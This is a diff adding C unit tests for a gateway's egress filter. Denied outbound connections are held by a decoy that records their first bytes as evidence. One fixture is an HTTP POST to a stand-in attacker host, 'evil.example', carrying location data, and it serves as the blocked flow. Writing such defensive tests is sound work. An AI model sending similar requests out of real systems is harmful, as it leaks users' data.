@@ -1,0 +1,324 @@
+/* SPDX-License-Identifier: Apache-2.0 */
+/* Denied flows and the decoy, over loopback: the unit's end of a connection, and a server
+ * that nobody may come to. */
+#include "gateway/uplink/decoy.h"
+
+#include "gateway/uplink/intake.h"
+#include "policies/parse.h"
+#include "tests/gateway/tcp_pair.h"
+#include "tests/tap.h"
+
+#define FLOWS 4
+#define POST "POST /upload HTTP/1.1\r\nHost: evil.example\r\nContent-Length: 9\r\n\r\n"
+
+static struct uplink_memory memory;
+static struct regime regime;
+static struct poller poller;
+static struct gate gate;
+static struct event told[32];
+static unsigned told_count;
+static uv_loop_t loop;
+static struct flow *flow;
+static int unit = -1;
+static int door = -1; /* of the server */
+
+static void on_record(void *context, const struct event *event)
+{
+    (void)context;
+    if (told_count < sizeof told / sizeof told[0]) {
+        told[told_count] = *event;
+    }
+    told_count++;
+}
+
+static void on_message(void *context, const char *line)
+{
+    (void)context;
+    printf("# %s\n", line);
+}
+
+static void on_round(void *context)
+{
+    (void)context;
+}
+
+static void on_event(void *context, struct poller_token token, uint32_t events)
+{
+    (void)context;
+    gate_event(&gate, token, events);
+}
+
+static struct policy *parse(void)
+{
+    static _Alignas(16) uint8_t block[POLICY_ARENA_BYTES];
+    static const char text[] =
+        "policy \"p\" version 1\nuplink {\n resolver 192.0.2.53\n"
+        " pass tls \"telemetry.example\" port 443\n deny otherwise reset\n}\n";
+    struct arena arena;
+    arena_init(&arena, block, sizeof block);
+    struct policy *policy =
+        policy_parse("p", text, sizeof text - 1, &arena, on_message, NULL);
+    if (policy != NULL) {
+        policy->uplink.denial = POLICY_DENY_DECOY;
+    }
+    return policy;
+}
+
+static struct endpoint listen_somewhere(void)
+{
+    struct sockaddr_in at = {.sin_family = AF_INET,
+                             .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
+    socklen_t len = sizeof at;
+    door = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC | SOCK_NONBLOCK, 0);
+    EXPECT(bind(door, (struct sockaddr *)&at, sizeof at) == 0);
+    EXPECT(listen(door, 4) == 0);
+    EXPECT(getsockname(door, (struct sockaddr *)&at, &len) == 0);
+    return (struct endpoint){address_ipv4((uint8_t[]){127, 0, 0, 1}), ntohs(at.sin_port)};
+}
+
+/* A flow that was accepted a moment ago. */
+static bool begin(void)
+{
+    int ends[2];
+    struct trouble why;
+    struct endpoint server = listen_somewhere();
+    struct endpoint client = {address_ipv4((uint8_t[]){192, 0, 2, 10}), 50000};
+    memory = (struct uplink_memory){0};
+    told_count = 0;
+    memset(told, 0, sizeof told);
+    struct uplink_setup setup = {
+        .policy = parse(), .memory = &memory, .record = on_record};
+    if (!EXPECT(setup.policy != NULL) || !EXPECT(uv_loop_init(&loop) == 0) ||
+        !EXPECT(poller_open(&poller, &loop, on_round, on_event, on_round, NULL, &why))) {
+        return false;
+    }
+    regime_init(&regime, &setup, 1);
+    if (!EXPECT(gate_open(&gate, &regime, &poller, 0, (int[]){-1, -1}, FLOWS, &why)) ||
+        !EXPECT(tcp_pair(ends))) {
+        return false;
+    }
+    unit = ends[1];
+    flow = flow_table_take(&gate.flows, regime.now_us);
+    flow_init(flow, ends[0], &client, &server);
+    return true;
+}
+
+static void on_closed(uv_handle_t *handle)
+{
+    (void)handle;
+}
+
+static void end(void)
+{
+    struct pollfd came = {.fd = door, .events = POLLIN};
+    EXPECT_EQ(poll(&came, 1, 0), 0); /* nothing ever goes out */
+    gate_close(&gate);
+    poller_close(&poller, on_closed);
+    (void)uv_run(&loop, UV_RUN_DEFAULT);
+    EXPECT(uv_loop_close(&loop) == 0);
+    (void)close(unit);
+    (void)close(door);
+}
+
+static void say(const void *bytes, size_t len)
+{
+    EXPECT(send(unit, bytes, len, 0) == (ssize_t)len);
+    EXPECT(tcp_pair_arrived(flow->side[FLOW_CLIENT].fd));
+    (void)uv_run(&loop, UV_RUN_NOWAIT);
+}
+
+/* It says its first words and is denied for them. */
+static bool begin_denied(void)
+{
+    if (!begin()) {
+        return false;
+    }
+    EXPECT(send(unit, POST, strlen(POST), 0) == (ssize_t)strlen(POST));
+    EXPECT(tcp_pair_arrived(flow->side[FLOW_CLIENT].fd));
+    intake_begin(&gate, flow);
+    EXPECT_EQ(told_count, 1);
+    EXPECT_EQ(told[0].reason, REASON_ADDRESS_NOT_NAMED);
+    return EXPECT_EQ(flow->phase, FLOW_PHASE_DECOY);
+}
+
+static const char *heard(void)
+{
+    char byte;
+    ssize_t got = recv(unit, &byte, 1, MSG_DONTWAIT);
+    return got > 0 ? "bytes" : got == 0 ? "end" : errno == EAGAIN ? "nothing" : "reset";
+}
+
+static void test_a_denied_flow_is_listened_to_and_told_when_its_time_is_over(void)
+{
+    if (!begin_denied()) {
+        return;
+    }
+    say("latitude=", 9);
+    gate_tick(&gate);
+    EXPECT_TEXT(heard(), "nothing");
+    EXPECT_EQ(told_count, 1);
+    regime.now_us += DECOY_STAY_US;
+    gate_tick(&gate);
+    EXPECT_EQ(gate.flows.open, 0);
+    EXPECT_TEXT(heard(), "end"); /* as a server closes */
+    EXPECT_EQ(told_count, 2);
+    EXPECT_EQ(told[1].reason, REASON_DECOY_KEPT);
+    EXPECT_EQ(told[1].action, EVENT_DROPPED);
+    EXPECT_EQ(told[1].flow.protocol, TRAFFIC_HTTP);
+    EXPECT_EQ(told[1].flow.client_port, 50000);
+    EXPECT_EQ(told[1].flow.bytes_up, 0);
+    EXPECT_EQ(told[1].flow.evidence.len, strlen(POST) + 9);
+    EXPECT(memcmp(told[1].flow.evidence.bytes, POST "latitude=", strlen(POST) + 9) == 0);
+    end();
+}
+
+static void test_what_it_says_does_not_lengthen_its_stay(void)
+{
+    if (!begin_denied()) {
+        return;
+    }
+    regime.now_us += DECOY_STAY_US - 1;
+    say("x", 1);
+    gate_tick(&gate);
+    EXPECT_EQ(gate.flows.open, 1);
+    regime.now_us += 1;
+    gate_tick(&gate);
+    EXPECT_EQ(gate.flows.open, 0);
+    end();
+}
+
+static void test_after_its_first_kilobytes_it_is_closed(void)
+{
+    static uint8_t bytes[3 * EXHIBIT_BYTES];
+    uint32_t kept = 0;
+    if (!begin_denied()) {
+        return;
+    }
+    memset(bytes, 'v', sizeof bytes);
+    say(bytes, sizeof bytes);
+    EXPECT_EQ(gate.flows.open, 0);
+    EXPECT_EQ(gate.decoy_free_count, GATE_DECOYS_MAX);
+    EXPECT_EQ(told_count, 11);
+    for (unsigned i = 1; i < 11; i++) {
+        EXPECT_EQ(told[i].flow.evidence.offset, kept);
+        kept += told[i].flow.evidence.len;
+    }
+    EXPECT_EQ(kept, EXHIBIT_BYTES);
+    end();
+}
+
+static void test_a_unit_that_ends_or_resets_it_leaves_what_it_said(void)
+{
+    for (int by_reset = 0; by_reset < 2; by_reset++) {
+        if (!begin_denied()) {
+            return;
+        }
+        if (by_reset) {
+            tcp_pair_reset(unit);
+            unit = -1;
+        } else {
+            (void)shutdown(unit, SHUT_WR);
+        }
+        EXPECT(tcp_pair_arrived(flow->side[FLOW_CLIENT].fd));
+        (void)uv_run(&loop, UV_RUN_NOWAIT);
+        EXPECT_EQ(gate.flows.open, 0);
+        EXPECT_EQ(told_count, 2);
+        EXPECT_EQ(told[1].flow.evidence.len, strlen(POST));
+        end();
+    }
+}
+
+static void test_one_that_says_nothing_leaves_nothing(void)
+{
+    if (!begin()) {
+        return;
+    }
+    intake_begin(&gate, flow);
+    EXPECT_EQ(flow->phase, FLOW_PHASE_QUIET);
+    regime.now_us += GATE_HELLO_US;
+    gate_tick(&gate);
+    EXPECT_EQ(flow->phase, FLOW_PHASE_DECOY);
+    regime.now_us += DECOY_STAY_US;
+    gate_tick(&gate);
+    EXPECT_EQ(gate.flows.open, 0);
+    EXPECT_EQ(told_count, 1);
+    end();
+}
+
+static void test_a_full_pool_is_a_reset_and_counted(void)
+{
+    if (!begin()) {
+        return;
+    }
+    gate.decoy_free_count = 0;
+    EXPECT(send(unit, POST, strlen(POST), 0) == (ssize_t)strlen(POST));
+    EXPECT(tcp_pair_arrived(flow->side[FLOW_CLIENT].fd));
+    intake_begin(&gate, flow);
+    EXPECT_EQ(gate.flows.open, 0);
+    EXPECT_TEXT(heard(), "reset");
+    EXPECT_EQ(told_count, 1);
+    EXPECT_EQ(regime.counts[REGIME_DECOYS_FULL], 1);
+    end();
+}
+
+static void test_with_no_record_or_no_room_there_is_no_decoy(void)
+{
+    static const enum reason reasons[] = {REASON_RECORD_DOWN, REASON_FLOWS_FULL};
+    for (size_t i = 0; i < sizeof reasons / sizeof reasons[0]; i++) {
+        if (!begin()) {
+            return;
+        }
+        gate_deny(&gate, flow, verdict_drop(reasons[i], VERDICT_NO_RULE));
+        EXPECT_EQ(gate.flows.open, 0);
+        EXPECT_TEXT(heard(), "reset");
+        end();
+    }
+}
+
+/* Payload is kept by no other word of the policy. */
+static void test_other_denials_keep_nothing(void)
+{
+    static const enum policy_denial denials[] = {POLICY_DENY_RESET, POLICY_DENY_SILENT};
+    for (size_t i = 0; i < sizeof denials / sizeof denials[0]; i++) {
+        if (!begin()) {
+            return;
+        }
+        static struct policy other;
+        other = *regime.policy;
+        other.uplink.denial = (uint8_t)denials[i];
+        regime.policy = &other;
+        EXPECT(send(unit, POST, strlen(POST), 0) == (ssize_t)strlen(POST));
+        EXPECT(tcp_pair_arrived(flow->side[FLOW_CLIENT].fd));
+        intake_begin(&gate, flow);
+        regime.now_us += DECOY_STAY_US;
+        gate_tick(&gate);
+        EXPECT_EQ(gate.flows.open, 0);
+        EXPECT_EQ(told_count, 1);
+        EXPECT_EQ(told[0].flow.evidence.len, 0);
+        end();
+    }
+}
+
+static void test_a_stop_tells_what_was_kept(void)
+{
+    if (!begin_denied()) {
+        return;
+    }
+    end();
+    EXPECT_EQ(told_count, 2);
+    EXPECT_EQ(told[1].reason, REASON_DECOY_KEPT);
+}
+
+int main(void)
+{
+    RUN(test_a_denied_flow_is_listened_to_and_told_when_its_time_is_over);
+    RUN(test_what_it_says_does_not_lengthen_its_stay);
+    RUN(test_after_its_first_kilobytes_it_is_closed);
+    RUN(test_a_unit_that_ends_or_resets_it_leaves_what_it_said);
+    RUN(test_one_that_says_nothing_leaves_nothing);
+    RUN(test_a_full_pool_is_a_reset_and_counted);
+    RUN(test_with_no_record_or_no_room_there_is_no_decoy);
+    RUN(test_other_denials_keep_nothing);
+    RUN(test_a_stop_tells_what_was_kept);
+    return tap_done();
+}
